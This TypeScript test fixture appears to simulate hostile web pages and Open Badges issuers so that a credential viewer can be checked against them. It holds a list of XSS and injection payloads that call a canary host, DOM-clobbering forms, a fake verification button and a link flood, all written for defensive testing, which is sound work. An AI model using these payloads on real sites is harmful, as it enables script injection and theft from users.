import { html, json, text } from '../reply';
import { assertion } from '../sign/open-badge-2';
import type { Host } from './host';

/** What a credential's texts hold to be run, loaded or shown as something else; each tells of itself at a canary. */
export const CANARY = 'canary.test';
const call = `fetch('https://${CANARY}/')`;
export const payloads: readonly string[] = [
  `<script>${call}</script>`,
  `<img src=x onerror="${call}">`,
  `<img src="https://${CANARY}/img.png">`,
  `<svg onload="${call}">`,
  `<svg><script href="https://${CANARY}/s.js"/></svg>`,
  `<svg><use href="https://${CANARY}/u.svg#a"/></svg>`,
  `<iframe src="https://${CANARY}/"></iframe>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<object data="https://${CANARY}/o"></object>`,
  `<embed src="https://${CANARY}/e">`,
  `<link rel=stylesheet href="https://${CANARY}/c.css">`,
  `<style>@import "https://${CANARY}/i.css";</style>`,
  `<style>*{background:url(https://${CANARY}/b.png)}</style>`,
  `<base href="https://${CANARY}/">`,
  `<meta http-equiv=refresh content="0;url=https://${CANARY}/">`,
  `<form action="https://${CANARY}/"><button>Open the panel</button></form>`,
  `<a href="javascript:${call}">here</a>`,
  `[here](javascript:${call})`,
  `![picture](https://${CANARY}/m.png)`,
  `"><script>${call}</script>`,
  `'-${call}-'`,
  `\`\${${call}}\``,
  '{{constructor.constructor("alert(1)")()}}',
  `<body onload="${call}">`,
  `<details open ontoggle="${call}">`,
  `<video><source onerror="${call}"></video>`,
  `<math href="javascript:${call}">CLICK</math>`,
  `<template shadowrootmode=open><script>${call}</script></template>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `<script>document.title='owned';alert(1)</script>`,
];

const ISSUER = 'payload.example';
const parts = Array.from({ length: 3 }, (_, at) => payloads.slice(at * 10, at * 10 + 10));
export const payloadLinks = parts.map((_, at) => `https://${ISSUER}/assertions/${at}.json`);

/** Stands in the answers of the issuer and is none of what a mark may say. */
export const BODY_CANARY = 'seen-in-no-page-7c1f';

const url = `https://${ISSUER}`;
const payloadIssuer = (at: number) => ({
  '@context': 'https://w3id.org/openbadges/v2',
  type: 'Issuer',
  id: `${url}/issuer/${at}`,
  name: parts[at]?.[3] ?? '',
  url,
  email: `a@${ISSUER}`,
});
const payloadClass = (at: number) => {
  const [name = '', description = '', narrative = '', , ...tags] = parts[at] ?? [];
  return {
    '@context': 'https://w3id.org/openbadges/v2',
    type: 'BadgeClass',
    id: `${url}/class/${at}`,
    name: `${name} ${at}`,
    description: `${description} ${BODY_CANARY}`,
    image: `https://${CANARY}/badge.png`,
    criteria: { narrative },
    tags,
    issuer: `${url}/issuer/${at}`,
  };
};
const payloadAssertion = (at: number) =>
  assertion({
    id: payloadLinks[at] ?? '',
    issuedOn: '2026-01-01T00:00:00Z',
    recipient: { type: 'email', hashed: false, identity: `mallory@${ISSUER}` },
    badge: `${url}/class/${at}`,
  });

const ONE = 'https://one.example/credentials/1.json';
const one = `<p><a href="${ONE}">Bread baking</a></p>`;
const bait = Array.from({ length: 500 }, (_, at) => `<i class="c${at} mark card root">x</i>`).join(
  '',
);
const NAMES = [
  'querySelector',
  'querySelectorAll',
  'getAttribute',
  'body',
  'head',
  'title',
  'links',
  'children',
];
const clobber = NAMES.map(
  (name) => `<form name="${name}" id="${name}"><input name="${name}"></form>`,
).join('');
const flood = Array.from(
  { length: 10_000 },
  (_, at) => `<a href="https://i${at % 500}.example/credentials/${at}.json">Badge ${at}</a>`,
).join(' ');

const pages: Readonly<Record<string, string>> = {
  '/bait': one + bait,
  '/fake': '<button id="pin" aria-label="Verified: Everything">✔ Verified</button>',
  '/click': `<div style="height:300px"></div>${one}<div style="height:600px"></div>`,
  '/clobber': `${clobber}${one}<p style="display:none"><a href="https://two.example/credentials/2.json">Hidden</a></p><iframe src="https://frame.example/"></iframe>`,
  '/flood': flood,
  '/meddled': one,
  '/payload': payloadLinks.map((href, at) => `<p><a href="${href}">Badge ${at}</a></p>`).join(''),
};

const STRICT =
  "default-src 'none'; style-src 'self'; frame-src https:; img-src data:; require-trusted-types-for 'script'; report-uri /violation";

const document = (body: string) =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>Mallory Vane</title></head><body><h1>Mallory Vane</h1>${body}</body></html>`;

/** Pages that try everything against a guest, each under the strictest policy, and the issuers behind them. */
export const guards: readonly Host[] = [
  {
    names: ['guards.example'],
    answer: ({ url }) => {
      const body = pages[url.pathname];
      return body === undefined
        ? undefined
        : html(200, document(body), { 'content-security-policy': STRICT });
    },
  },
  {
    names: ['frame.example'],
    answer: () =>
      html(200, document('<a href="https://three.example/credentials/3.json">Framed</a>')),
  },
  {
    names: [ISSUER],
    answer: ({ url: { pathname } }) => {
      const [, kind, name = ''] = pathname.split('/');
      const at = Number.parseInt(name, 10);
      const made: Readonly<
        Record<string, typeof payloadAssertion | typeof payloadClass | typeof payloadIssuer>
      > = { assertions: payloadAssertion, class: payloadClass, issuer: payloadIssuer };
      const make = made[kind ?? ''];
      return make && parts[at] ? json(200, make(at), { etag: `"viewer-${at}"` }) : undefined;
    },
  },
  { names: [CANARY], answer: () => text(200, 'sung') },
];
